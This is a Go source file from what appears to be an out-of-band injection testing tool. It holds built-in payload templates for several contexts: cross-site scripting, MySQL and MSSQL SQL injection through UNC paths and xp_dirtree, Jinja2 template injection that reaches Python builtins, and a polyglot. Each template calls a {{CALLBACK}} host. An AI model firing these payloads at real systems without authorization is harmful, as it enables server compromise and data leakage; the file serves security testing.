// Package payloadset ships a handful of illustrative callback payload
// templates per context tag, grounded in the reference tool's per-class
// generators (payloads/{xss,sqli,ssti,polyglot}.py). Payload *content*
// is explicitly out of core scope (§1); this exists so
// `inject --payload builtin:<tag>` has something concrete to resolve.
package payloadset

// Set maps a context tag to a short list of {{CALLBACK}}-templated
// payloads, mirroring the flat-list-per-module shape of the reference
// payload libraries.
var Set = map[string][]string{
	"xss:html": {
		`<img src=x onerror="fetch('{{CALLBACK}}')">`,
		`<svg onload="fetch('{{CALLBACK}}')">`,
	},
	"xss:attribute": {
		`" onfocus="fetch('{{CALLBACK}}')" autofocus="`,
	},
	"sqli:mysql": {
		`1' AND (SELECT 1 FROM (SELECT SLEEP(0)) x)-- LOAD_FILE('\\\\{{CALLBACK}}\\share\\a')`,
	},
	"sqli:mssql": {
		`1'; EXEC master..xp_dirtree '\\{{CALLBACK}}\share'--`,
	},
	"ssti:jinja2": {
		`{{7*7}}{{ request.application.__globals__.__builtins__.__import__('urllib.request').urlopen('{{CALLBACK}}') }}`,
	},
	"polyglot": {
		`'"><img src=x onerror=fetch('{{CALLBACK}}')>`,
	},
}

// Lookup returns the built-in templates for a `builtin:<tag>` reference
// (e.g. "builtin:xss:html"), and whether the tag was recognized.
func Lookup(tag string) ([]string, bool) {
	templates, ok := Set[tag]
	return templates, ok
}
